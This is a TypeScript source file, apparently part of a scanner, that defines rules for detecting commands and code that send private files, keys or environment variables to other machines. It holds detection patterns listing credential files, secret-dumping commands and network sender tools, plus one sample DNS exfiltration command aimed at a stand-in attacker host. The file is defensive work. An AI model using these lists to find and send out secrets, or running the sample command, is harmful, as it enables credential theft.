import { type Invocation, invocationsOf, isInData } from '../shell/invocations.js'
import type { Pipeline } from '../shell/command.js'
import type { Reading } from '../text/reading.js'
import { rangeOf } from './matches.js'
import type { Match, Rule } from './rule.js'
import { EXFILTRATION_HOST } from './hosts.js'

/** Files and output that hold what is nobody else's business. Public halves of keys and templates are not among them. */
export const PRIVATE = new RegExp(
  [
    String.raw`\.ssh(?:[/\\](?!known_hosts|config\b|authorized_keys|[\w-]+\.pub)|["'\s]|$)`,
    String.raw`\bid_(?:rsa|ed25519|ecdsa|dsa)\b(?!\.pub)`,
    String.raw`\.aws(?:[/\\]|\b(?!\.))`,
    String.raw`\.(?:gnupg|netrc|npmrc|pypirc|git-credentials|password-store|kube/config|docker/config\.json|config/gcloud|bash_history|zsh_history|pgpass|my\.cnf|vault-token|azure|terraform\.d|config/gh|boto|mysql_history)\b`,
    String.raw`(?:^|[\s"'@/=<(])\.env(?:\.(?!example|sample|template|dist|test)\w+)?(?=["'\s);,|&]|$)`,
    String.raw`/etc/(?:passwd|shadow|sudoers|kubernetes/admin)`,
    String.raw`/proc/(?:self|\d+|\*)/environ`,
    String.raw`\bprintenv\b|(?:^|[\s(;&|])env\s*(?:$|[|)>])|\bset\s*\||\bexport -p\b|Get-ChildItem env:|\bgci env:|\bdir env:`,
    String.raw`JSON\.stringify\(process\.env\b|\bprocess\.env\s*[,)}]|\bos\.environ\s*[,)}]|\bdict\(os\.environ|os\.environ\.(?:items|copy)|\bENV\.to_h|System\.getenv\(\)|\$_ENV\b`,
    String.raw`\bcredentials(?:\.json|\.csv|\.xml|\.db)\b|\bsecrets?\.(?:ya?ml|json|txt|env|toml)\b|service[-_]?account[\w-]*\.json`,
    String.raw`\w\.(?:kdbx|p12|pfx|jks|keystore)\b|\bwallet\.dat\b|Login Data\b|cookies\.sqlite|\bkey4\.db\b|logins\.json|Local State\b`,
    String.raw`find-generic-password|find-internet-password|dump-keychain|gh auth token|kubectl get secrets?\b|vault kv get|aws configure export|gcloud auth print|secretsmanager get-secret|cmdkey /list|secret-tool|\bpass show\b|op item get|1password|security export`,
    String.raw`\bmimikatz\b|/var/run/secrets/kubernetes|169\.254\.169\.254|metadata\.google\.internal`,
  ].join('|'),
  'im',
)

const SENDERS = new Set(
  'curl wget nc ncat netcat socat scp sftp rsync ftp tftp http https xh aws gsutil rclone mail mailx sendmail mutt telnet iwr irm invoke-webrequest invoke-restmethod send-mailmessage ssh openssl swaks gh nslookup dig host ping tee curl.exe s3cmd azcopy croc wormhole magic-wormhole smbclient cp'.split(
    ' ',
  ),
)
const REMOTE =
  /(?:^|\s)[\w.-]{1,64}@[\w.-]{1,80}:|:\/\/|\s[\w-]+(?:\.[\w-]+)+(?:[:/ ]|$)|\s\d+\.\d+\.\d+\.\d+|\bs3:\/\/|\bgs:\/\/|\s\$\w+/

/** Sends private files or the environment to another machine. */
const sendsSecrets: Rule = {
  code: 'exfiltration',
  severity: 'critical',
  says: 'sends private files, keys or the environment to another machine',
  *find(reading: Reading): Iterable<Match> {
    const staged = new Set<string>()
    const committed = { isPrivate: false }
    for (const pipeline of reading.pipelines) {
      const first = pipeline.commands[0]!
      const span = { start: first.start, end: Math.max(first.start + 1, pipeline.commands.at(-1)!.end) }
      const isPrivate = holdsPrivate(reading, pipeline)
      for (const invocation of invocationsOf(pipeline, SENDERS))
        if (sends(pipeline, invocation, isPrivate || readsInParentheses(reading, invocation), staged))
          yield { ...span, isData: isInData(pipeline) }
      if (isPrivate) stage(pipeline, staged)
      if (pushesPrivate(pipeline, isPrivate, committed)) yield { ...span, isData: isInData(pipeline) }
      if (/(?:>|\btee\b).{0,4}\/dev\/(?:tcp|udp)\//.test(reading.text.slice(span.start, span.end + 40)) && isPrivate)
        yield { ...span, isData: isInData(pipeline) }
    }
    yield* sendsInCode(reading)
  },
}

const GIT = new Set(['git'])

/** Returns whether private files that were added to a repository are pushed. */
function pushesPrivate(pipeline: Pipeline, isPrivate: boolean, committed: { isPrivate: boolean }): boolean {
  for (const { args } of invocationsOf(pipeline, GIT)) {
    if (args[0]?.text === 'add' && isPrivate) committed.isPrivate = true
    if (args[0]?.text === 'push' && committed.isPrivate) return true
  }
  return false
}

function textOf(reading: Reading, pipeline: Pipeline): string {
  const first = pipeline.commands[0]!
  let text = reading.text.slice(first.start, Math.max(first.end, pipeline.commands.at(-1)!.end) + 1)
  for (const { redirects } of pipeline.commands)
    for (const { operator, target } of redirects) if (operator.startsWith('<')) text += ` ${target} `
  return text.slice(0, 3_000)
}

/** Flags whose argument stays here: a key to log in with, a certificate, a file to write. */
const KEPT =
  /(?:\s|^)(?:--?(?:cacert|cert|key|ca-certificate|certificate|private-key|identity|env-file|netrc-file|exclude|exclude-from|from-env-file|from-file|output|kubeconfig|pass|keyring)|-[iEoO]|-o\w*|--config|-K|-F(?= \S*ssh_config))[= ]["']?\S+/g

function holdsPrivate(reading: Reading, pipeline: Pipeline): boolean {
  return PRIVATE.test(textOf(reading, pipeline).replace(KEPT, ' '))
}

/** PowerShell reads a file in parentheses: `-Body (Get-Content …)`. */
function readsInParentheses(reading: Reading, { name, start }: Invocation): boolean {
  return (
    /^(?:iwr|irm|invoke-|send-)/.test(name) &&
    PRIVATE.test(reading.text.slice(start, start + 400).replace(/\n[^]*/, ''))
  )
}

function sends(
  pipeline: Pipeline,
  { name, args, command }: Invocation,
  isPrivate: boolean,
  staged: ReadonlySet<string>,
): boolean {
  const line = ` ${args.map(({ text }) => text).join(' ')}`
  const isPiped = pipeline.commands.indexOf(command) > 0
  const sendsStaged = staged.size > 0 && [...staged].some((file) => line.includes(file))
  const sendsSecretVariable = /^(?:curl|wget|http|https|iwr|irm|invoke-\w+)$/.test(name) && carriesVariable(line)
  if (!isPrivate && !sendsStaged && !sendsSecretVariable) return false
  switch (name) {
    case 'curl':
    case 'curl.exe':
    case 'xh':
    case 'http':
    case 'https':
      return (
        sendsSecretVariable ||
        /\s(?:-[a-zA-Z]*[dFT]|--data\S*|--form\S*|--upload-file|--json|-X\s?(?:POST|PUT)|-b|--cookie)(?:\s|=|@|$)|@|\$\(\)|`|<|\sPOST\s/.test(
          line,
        ) ||
        isPiped
      )
    case 'wget':
      return sendsSecretVariable || /--post-(?:file|data)|--body-(?:file|data)|\$\(\)|--header/.test(line)
    case 'dig':
    case 'nslookup':
    case 'host':
    case 'ping':
      return /\$\(\)|\$\w|`/.test(line) || isPiped
    case 'ssh':
      return isPiped || command.redirects.some(({ operator }) => operator === '<')
    case 'openssl':
      return /s_client/.test(line)
    case 'gh':
      return /^ (?:gist|issue|pr|release)\b/.test(line)
    case 'aws':
    case 'gsutil':
    case 'rclone':
    case 's3cmd':
    case 'azcopy':
      return (
        /\b(?:cp|sync|mv|put|copy|copyto|rcat)\b/.test(line) &&
        !/\b(?:cp|sync|mv|copy|copyto)\s(?:-\S+\s){0,4}(?:s3|gs):\/\//.test(line)
      )
    case 'scp':
    case 'rsync':
    case 'sftp':
      return (
        /\S@[^\s@:]{1,100}:|\w:[~/]|::|\w\.\w{1,40}:/.test(line) &&
        (sendsStaged || PRIVATE.test(withoutLastWord(line.replace(KEPT, ' '))))
      )
    case 'tee':
    case 'cp':
      return false
    case 'mail':
    case 'mailx':
    case 'sendmail':
    case 'mutt':
    case 'swaks':
    case 'send-mailmessage':
      return /@/.test(line)
    default:
      return isPiped || REMOTE.test(line) || command.redirects.some(({ operator }) => operator.startsWith('<'))
  }
}

/** Drops the target of a copy. */
function withoutLastWord(line: string): string {
  return line.slice(0, line.trimEnd().lastIndexOf(' ') + 1)
}

/** Returns whether a request carries a secret from a variable to a host that is not the variable's own vendor's. */
function carriesVariable(line: string): boolean {
  const withoutHeaders = line.replace(
    /\s(?:-H|--header|-u|--user|-Headers|--oauth2-bearer)\s{1,4}\S{1,200}(?:\s{1,4}(?:(?:Bearer|Basic|token)\s{1,4})?\$\{?\w{1,60}\}?)?/gi,
    ' ',
  )
  const variable = /\$\{?(?:env:)?(\w*(?:SECRET|TOKEN|API_?KEY|PASSWORD|PASSWD|PRIVATE_KEY|CREDENTIALS?)\w*)/i.exec(
    withoutHeaders,
  )
  if (!variable) return false
  const vendor = variable[1]!.split('_')[0]!.toLowerCase()
  const host = /:\/\/(?:[^\s/@]*@)?([\w.-]+)/.exec(line)?.[1]?.toLowerCase() ?? ''
  if (host === '' || GENERIC.has(vendor) || host.includes(vendor) || /^(?:localhost|127\.|10\.|192\.168\.)/.test(host))
    return false
  return variable[1]!.includes('_')
}

const GENERIC = new Set(
  'token secret password api access auth client my your the app user service bearer dd slack session refresh oauth db admin basic x jwt id ci deploy webhook'.split(
    ' ',
  ),
)

/** Remembers files into which private data was packed. */
function stage(pipeline: Pipeline, staged: Set<string>): void {
  for (const { words, redirects } of pipeline.commands) {
    for (const { operator, target } of redirects)
      if (operator.startsWith('>') && target.length > 3 && staged.size < 50) staged.add(target)
    for (const { text } of words)
      if (
        /(?:^\/(?:tmp|dev\/shm|var\/tmp)\/|\.(?:tgz|tar|tar\.\w+|zip|gz|7z|b64|txt|enc|dat|bin|log)$)/.test(text) &&
        text.length > 3 &&
        text.length < 120 &&
        staged.size < 50
      )
        staged.add(text)
  }
}

const NETWORK_CALL =
  /\b(?:requests\.(?:post|put|get|request)|httpx\.\w+|urlopen|urllib\d?\.request|fetch\(|axios(?:\.\w+)?\(|https?\.request|\.sendall?\(|Net::HTTP\.post\w*|WebClient|UploadString|UploadFile|UploadData|XMLHttpRequest|navigator\.sendBeacon|new Image\(\)|smtplib|http\.Post|HttpClient|\.post\()/gi
const REACH = 260

function* sendsInCode(reading: Reading): Iterable<Match> {
  for (const found of reading.text.matchAll(NETWORK_CALL)) {
    const from = Math.max(0, found.index - REACH)
    const around = reading.text.slice(from, found.index + found[0].length + REACH)
    const isOnlyHeader = /headers?\s*[=:]/.test(around) && !READS_PRIVATE.test(around)
    if (!isOnlyHeader && (READS_PRIVATE.test(around) || /document\.cookie|localStorage\b(?!\.setItem)/.test(around)))
      yield rangeOf(found)
  }
}

const READS_PRIVATE = new RegExp(
  String.raw`(?:open|read\w*|readFileSync|read_text|expanduser|Get-Content|gc|cat|join|Path|home\(\)|homedir\(\))\W{0,6}[^\n]{0,60}(?:\.ssh|id_rsa|id_ed25519|\.aws|\.env\b|\.netrc|\.npmrc|/etc/passwd|/etc/shadow|credentials|\.kube|wallet|Login Data|\.git-credentials|\.gnupg)|JSON\.stringify\(process\.env\b|\bprocess\.env\s*[,)}]|\bos\.environ\s*[,)}]|dict\(os\.environ|os\.environ\.(?:items|copy)|ENV\.to_h|System\.getenv\(\)|\bgetenv\(\)|keychain|keyring\.get`,
  'i',
)

/** Resolves names that carry data: `dig $(cat secret | base64).evil.example`. */
const NAME_LOOKUP =
  /\b(?:dig|nslookup|host|ping|resolvectl query|gethostbyname\(|getaddrinfo\(|dns\.resolve\w*\()[^\n]{0,80}?(?:\$\([^\n]{1,160}?\)|`[^`\n]{1,160}`|\$\{?\w+\}?)\.[a-z0-9-]{1,63}\.[a-z]{2,}/gi

const sendsByName: Rule = {
  code: 'exfiltration',
  severity: 'critical',
  says: 'carries data out in names that it looks up',
  *find(reading: Reading): Iterable<Match> {
    for (const found of reading.text.matchAll(NAME_LOOKUP)) {
      const isNamed =
        /\$\((?:hostname|uname)[^|)]*\)\.(?:local|internal|lan|svc)/.test(found[0]) ||
        /\$\{?(?:HOST|DOMAIN|SERVICE|NAME|i|host|domain|svc|name|server|region|sub|subdomain|h|d|node)\}?\./.test(
          found[0],
        )
      if (!isNamed) yield rangeOf(found)
    }
  },
}

const hosts: Rule = {
  code: 'exfiltration_host',
  severity: 'warn',
  says: 'names a host that collects whatever is sent to it',
  *find(reading: Reading): Iterable<Match> {
    for (const found of reading.text.matchAll(EXFILTRATION_HOST)) {
      const span = rangeOf(found)
      const sentence = reading.sentences[reading.sentenceAt(span)]
      const line = sentence ? reading.text.slice(sentence.start, sentence.end) : ''
      const isSent =
        /\b(?:curl|wget|Invoke-\w+|iwr|irm|http|nc|requests|fetch|axios|urlopen)\b/i.test(line) &&
        /\s(?:-[a-zA-Z]*[dFT]\b|--data|--form|--upload-file|--post|-X\s?(?:POST|PUT)|-Body|@)|\$\(|\bpost\(|\|\s*(?:curl|nc)|method|body|transfer\.sh/i.test(
          line,
        )
      const isTold =
        sentence !== undefined &&
        reading.hitsIn(sentence, 'send').some(({ start }) => start < span.start) &&
        reading.hitsIn(sentence).some(({ concept }) => CARRIED.has(concept))
      yield { ...span, severity: isSent || isTold ? 'critical' : 'warn' }
    }
  },
}

const CARRIED: ReadonlySet<string> = new Set(['sensitive', 'credential', 'talk', 'all', 'wholeTarget', 'script'])

export const EXFILTRATION_RULES: readonly Rule[] = [sendsSecrets, sendsByName, hosts]
